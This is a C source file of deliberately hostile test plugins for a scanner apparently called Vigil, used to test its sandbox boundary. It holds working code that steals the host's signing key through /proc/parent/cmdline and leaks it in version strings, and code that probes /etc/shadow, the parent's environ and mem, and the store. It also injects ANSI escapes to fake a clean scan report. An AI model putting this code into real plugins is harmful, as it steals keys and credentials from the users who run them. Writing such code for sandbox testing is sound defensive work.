/* Hostile plugins that attack the trust boundary itself rather than crash (issue 18),
 * built once per BOUNDARY_MODE (see CMakeLists.txt):
 *
 *   key-thief    its constructor reads /proc/<parent>/cmdline, finds `--key PATH`,
 *                reads the signing key and hands it back in three detectors'
 *                versions (in chunks short enough and made of characters a version
 *                may have), and prints it on stderr. Versions are "0.0.1-nokey" when
 *                the theft failed.
 *   bad-version  describes a version with a newline and an ANSI escape in it.
 *   prober       tries to open /etc/shadow, /proc/<parent>/{cmdline,environ,maps,mem},
 *                /proc/1/environ and the store in its constructor, in create() and
 *                in analyze(); keeps every descriptor it got (and one to
 *                /etc/ld.so.cache, also moved onto fd 0) and reads them in
 *                analyze(). A thread it starts while loading opens a file the loader
 *                may read when analyze() asks it to ("analyze-thread"). Each result
 *                is one signal "probe" = "PHASE TARGET RESULT" and a line
 *                "probe: PHASE TARGET RESULT" on stderr; RESULT is "read" (the
 *                attack worked) or "denied (...)".
 *   chatty       on an item "attack" prints a fake scan summary, ANSI escapes,
 *                invalid UTF-8 and a 5000-byte line on stdout and stderr; on "flood"
 *                4 MiB of 64-byte lines.
 *
 * The store's path: from the parent's cmdline (`--store PATH`) when it can read it,
 * else /tmp/vigil-prober-<parent pid>/store.db (where the unit test puts it: an
 * attacker may know the default location); in create() from the configuration's
 * data_dir (the store's folder + "/lists"). */
#define _GNU_SOURCE
/* Truncated paths and results are fine in a test plugin. */
#pragma GCC diagnostic ignored "-Wformat-truncation"
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "vigil/plugin.h"
#include "vigil/wire.h"

#define MODE_KEY_THIEF 1
#define MODE_BAD_VERSION 2
#define MODE_PROBER 3
#define MODE_CHATTY 4

/* Reads up to size-1 bytes of `path` into `out` (NUL-terminated); -errno on
 * failure. */
__attribute__((unused)) static long slurp(const char *path, char *out, size_t size) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -errno;
  size_t used = 0;
  while (used + 1 < size) {
    ssize_t n = read(fd, out + used, size - 1 - used);
    if (n < 0) {
      int e = errno;
      close(fd);
      return -e;
    }
    if (n == 0) break;
    used += (size_t)n;
  }
  out[used] = '\0';
  close(fd);
  return (long)used;
}

/* The argument after `flag` in the parent's cmdline, or "" when it cannot be
 * read. */
__attribute__((unused)) static void parent_arg(const char *flag, char *out, size_t size) {
  char path[64], cmdline[8192];
  out[0] = '\0';
  snprintf(path, sizeof path, "/proc/%d/cmdline", (int)getppid());
  long n = slurp(path, cmdline, sizeof cmdline);
  if (n <= 0) return;
  for (long at = 0; at < n;) {
    const char *arg = cmdline + at;
    size_t len = strlen(arg);
    if (strcmp(arg, flag) == 0 && at + (long)len + 1 < n) {
      snprintf(out, size, "%s", arg + len + 1);
      return;
    }
    at += (long)len + 1;
  }
}

#if BOUNDARY_MODE == MODE_KEY_THIEF
static char g_key[1024];

__attribute__((constructor)) static void steal_key(void) {
  char key_path[4096];
  parent_arg("--key", key_path, sizeof key_path);
  if (key_path[0] == '\0' || slurp(key_path, g_key, sizeof g_key) <= 0) {
    g_key[0] = '\0';
    return;
  }
  g_key[strcspn(g_key, "\r\n")] = '\0';
  fprintf(stderr, "stolen signing key: %s\n", g_key);
}

/* Chunk `index` of the stolen key, 60 characters each, as a version. */
static void version_for(int index, char *out, size_t size) {
  size_t len = strlen(g_key);
  if (len == 0) {
    snprintf(out, size, "0.0.1-nokey");
    return;
  }
  size_t from = (size_t)index * 60;
  if (from >= len) {
    snprintf(out, size, "0.0.1-rest");
    return;
  }
  snprintf(out, size, "%.60s", g_key + from);
}
#endif

/* ---- the prober ---- */
#if BOUNDARY_MODE == MODE_PROBER
#define MAX_KEPT 32
struct kept {
  int fd;
  dev_t dev;
  ino_t ino;
  char what[96];
};
static struct kept g_kept[MAX_KEPT];
static int g_kept_count;
static char g_results[64][160];
static int g_result_count;
static char g_store[4096];

static void record(const char *phase, const char *target, const char *result) {
  if (g_result_count < 64) {
    snprintf(g_results[g_result_count++], sizeof g_results[0], "%s %s %s", phase, target, result);
  }
  fprintf(stderr, "probe: %s %s %s\n", phase, target, result);
}

static void keep(int fd, const char *phase, const char *target) {
  struct stat st;
  if (g_kept_count >= MAX_KEPT || fstat(fd, &st) != 0) return;
  struct kept *k = &g_kept[g_kept_count++];
  k->fd = fd;
  k->dev = st.st_dev;
  k->ino = st.st_ino;
  snprintf(k->what, sizeof k->what, "%s:%s", phase, target);
}

/* Opens `path` and reads from it; keeps the descriptor for analyze(). */
static void probe(const char *phase, const char *target, const char *path) {
  char result[128];
  int fd = open(path, O_RDONLY);
  if (fd < 0) {
    snprintf(result, sizeof result, "denied (%s)", strerror(errno));
    record(phase, target, result);
    return;
  }
  char buffer[256];
  ssize_t n = read(fd, buffer, sizeof buffer);
  if (n < 0 && errno == EIO) {
    /* /proc/PID/mem: offset 0 is never mapped; the open itself was the breach.
     */
    n = 1;
  }
  snprintf(result, sizeof result, n > 0 ? "read" : "denied (opened, read %s)",
           n < 0 ? strerror(errno) : "nothing");
  record(phase, target, result);
  keep(fd, phase, target);
}

static void probe_all(const char *phase) {
  char path[128];
  const int parent = (int)getppid();
  probe(phase, "/etc/shadow", "/etc/shadow");
  static const char *const kParentFiles[] = {"cmdline", "environ", "maps", "mem"};
  for (size_t i = 0; i < sizeof kParentFiles / sizeof kParentFiles[0]; ++i) {
    char target[64];
    snprintf(path, sizeof path, "/proc/%d/%s", parent, kParentFiles[i]);
    snprintf(target, sizeof target, "/proc/parent/%s", kParentFiles[i]);
    probe(phase, target, path);
  }
  probe(phase, "/proc/1/environ", "/proc/1/environ");
  if (g_store[0] != '\0') {
    probe(phase, "store", g_store);
  } else {
    record(phase, "store", "denied (path unknown)");
  }
}

/* The store's folder is in the data_dir of the detector's configuration (it is
 * the store's folder + "/lists"): DetectorConfig field 2. */
static void store_from_config(const uint8_t *config, size_t size) {
  size_t at = 0;
  while (at < size) {
    uint64_t key = 0, len = 0;
    int shift = 0;
    while (at < size && shift < 64) {
      key |= (uint64_t)(config[at] & 0x7f) << shift;
      shift += 7;
      if (!(config[at++] & 0x80)) break;
    }
    if ((key & 7) != 2) return; /* only length-delimited fields in a DetectorConfig */
    shift = 0;
    while (at < size && shift < 64) {
      len |= (uint64_t)(config[at] & 0x7f) << shift;
      shift += 7;
      if (!(config[at++] & 0x80)) break;
    }
    if (len > size - at) return;
    if ((key >> 3) == 2 && len > 0 && len < sizeof g_store - 16) {
      char dir[4096];
      memcpy(dir, config + at, len);
      dir[len] = '\0';
      char *slash = strrchr(dir, '/');
      if (slash != NULL) *slash = '\0';
      snprintf(g_store, sizeof g_store, "%s/store.db", dir);
    }
    at += len;
  }
}

/* A thread started at load: it opens /etc/ld.so.cache (which Landlock lets the
 * loader read) whenever analyze() writes a byte to g_ask, and answers 1 (read)
 * or 0. */
static int g_ask[2] = {-1, -1}, g_answer[2] = {-1, -1};

static void *opener(void *unused) {
  (void)unused;
  char byte;
  while (read(g_ask[0], &byte, 1) == 1) {
    char buffer[16];
    int fd = open("/etc/ld.so.cache", O_RDONLY);
    char ok = (char)(fd >= 0 && read(fd, buffer, sizeof buffer) > 0);
    if (fd >= 0) close(fd);
    if (write(g_answer[1], &ok, 1) != 1) break;
  }
  return NULL;
}

__attribute__((constructor)) static void probe_at_load(void) {
  parent_arg("--store", g_store, sizeof g_store);
  if (g_store[0] == '\0') {
    /* Where the unit test puts its store: an attacker may simply know the path.
     */
    snprintf(g_store, sizeof g_store, "/tmp/vigil-prober-%d/store.db", (int)getppid());
  }
  probe_all("load");
  /* A descriptor to a file the loader may read, kept for analyze(), and a copy
   * of it on fd 0 (close + dup: the lowest free number). */
  int harmless = open("/etc/ld.so.cache", O_RDONLY);
  if (harmless >= 0) {
    keep(harmless, "load", "/etc/ld.so.cache");
    close(0);
    int zero = dup(harmless);
    if (zero == 0) keep(0, "load", "fd0=/etc/ld.so.cache");
  }
  pthread_t thread;
  if (pipe(g_ask) == 0 && pipe(g_answer) == 0) pthread_create(&thread, NULL, opener, NULL);
}
#endif

#if BOUNDARY_MODE == MODE_CHATTY
static void chatter(int fd) {
  static const char kFake[] =
      "vigil: scanned 2 items with 1 detectors on 1 "
      "threads: 0 failed, 0 detections, 0 queued "
      "for review\n"
      "\x1b[2K\x1b[1A\x1b[31mall clear\x1b[0m\n"
      "bad utf-8: \xff\xfe\xc3\x28 end\n";
  if (write(fd, kFake, sizeof kFake - 1) < 0) return;
  static char line[5001];
  memset(line, 'L', sizeof line - 1);
  line[sizeof line - 2] = '\n';
  if (write(fd, line, sizeof line - 1) < 0) return;
}
#endif

static vigil_status_t describe(const vigil_detector_t *detector, const vigil_sink_t *out) {
  uint8_t storage[512];
  vigil_wire_buf b;
  char version[128] = "0.0.1";
#if BOUNDARY_MODE == MODE_KEY_THIEF
  version_for(detector->id[6] - 'a', version, sizeof version); /* thief.a, thief.b, ... */
  fprintf(stderr, "describing %s with version %s\n", detector->id, version);
#elif BOUNDARY_MODE == MODE_BAD_VERSION
  snprintf(version, sizeof version, "1.0.0\n\x1b[2Jsigned by vigil");
#endif
  vigil_wire_init(&b, storage, sizeof storage);
  vigil_wire_string(&b, 1, detector->id);
  vigil_wire_string(&b, 2, version);
  vigil_wire_string(&b, 3, "Vigil hostile tests");
  vigil_wire_varint(&b, 4, 15);
  vigil_wire_varint(&b, 5, VIGIL_MEDIA_BINARY);
  return out->write(out, b.data, b.size);
}

static int g_token;

static vigil_status_t create(const vigil_detector_t *detector, const vigil_host_t *host,
                             const uint8_t *config, size_t config_size, void **instance,
                             const vigil_sink_t *err) {
  (void)detector;
  (void)host;
  (void)config;
  (void)config_size;
  (void)err;
#if BOUNDARY_MODE == MODE_PROBER
  if (config != NULL) store_from_config(config, config_size);
  probe_all("create");
#endif
  *instance = &g_token;
  return VIGIL_OK;
}

static void destroy(void *instance) { (void)instance; }

static vigil_status_t analyze(void *instance, const vigil_item_view_t *item,
                              const vigil_sink_t *out, const vigil_sink_t *err) {
  (void)instance;
  (void)err;
  uint8_t result_storage[16384];
  vigil_wire_buf result;
  vigil_wire_init(&result, result_storage, sizeof result_storage);
#if BOUNDARY_MODE == MODE_PROBER
  probe_all("analyze");
  for (int i = 0; i < g_kept_count; ++i) {
    struct kept *k = &g_kept[i];
    char target[128], text[128], buffer[64];
    struct stat st;
    snprintf(target, sizeof target, "kept-fd(%s)", k->what);
    if (fstat(k->fd, &st) != 0) {
      snprintf(text, sizeof text, "denied (%s)", strerror(errno));
    } else if (st.st_dev != k->dev || st.st_ino != k->ino) {
      snprintf(text, sizeof text, "denied (the number now names another file)");
    } else {
      ssize_t n = pread(k->fd, buffer, sizeof buffer, 0);
      snprintf(text, sizeof text, n > 0 || (n < 0 && errno == EIO) ? "read" : "denied (%s)",
               n < 0 ? strerror(errno) : "empty");
    }
    record("analyze", target, text);
  }
  char ok = 0;
  if (write(g_ask[1], "?", 1) == 1 && read(g_answer[0], &ok, 1) == 1) {
    record("analyze-thread", "/etc/ld.so.cache", ok ? "read" : "denied (open failed)");
  } else {
    record("analyze-thread", "/etc/ld.so.cache", "denied (no thread)");
  }
  for (int i = 0; i < g_result_count; ++i) {
    uint8_t storage[256];
    vigil_wire_buf signal;
    vigil_wire_init(&signal, storage, sizeof storage);
    vigil_wire_string(&signal, 1, "probe");
    vigil_wire_string(&signal, 2, g_results[i]);
    vigil_wire_bytes(&result, 1, signal.data, signal.size);
  }
  g_result_count = 0;
#elif BOUNDARY_MODE == MODE_CHATTY
  if (item->bytes != NULL && item->bytes_size >= 6 && memcmp(item->bytes, "attack", 6) == 0) {
    chatter(1);
    chatter(2);
  } else if (item->bytes != NULL && item->bytes_size >= 5 && memcmp(item->bytes, "flood", 5) == 0) {
    static char chunk[64 << 10];
    memset(chunk, 'f', sizeof chunk);
    for (size_t i = 63; i < sizeof chunk; i += 64) chunk[i] = '\n'; /* many short lines */
    for (int i = 0; i < 64; ++i) {
      if (write(2, chunk, sizeof chunk) < 0) break;
    }
  }
#endif
  (void)item;
  uint8_t storage[64];
  vigil_wire_buf signal;
  vigil_wire_init(&signal, storage, sizeof storage);
  vigil_wire_string(&signal, 1, "size");
  char value[32];
  snprintf(value, sizeof value, "%zu", item->bytes_size);
  vigil_wire_string(&signal, 2, value);
  vigil_wire_bytes(&result, 1, signal.data, signal.size);
  return out->write(out, result.data, result.size);
}

static const void *get_extension(void *instance, const char *id) {
  (void)instance;
  (void)id;
  return NULL;
}

#if BOUNDARY_MODE == MODE_KEY_THIEF
static const vigil_detector_t detectors[] = {
    {sizeof(vigil_detector_t), 0, "thief.a", 0, describe, create, destroy, analyze, get_extension},
    {sizeof(vigil_detector_t), 0, "thief.b", 0, describe, create, destroy, analyze, get_extension},
    {sizeof(vigil_detector_t), 0, "thief.c", 0, describe, create, destroy, analyze, get_extension},
};
#else
static const vigil_detector_t detectors[] = {
    {sizeof(vigil_detector_t), 0, BOUNDARY_ID, 0, describe, create, destroy, analyze,
     get_extension},
};
#endif

#include "plugin_entry.h"
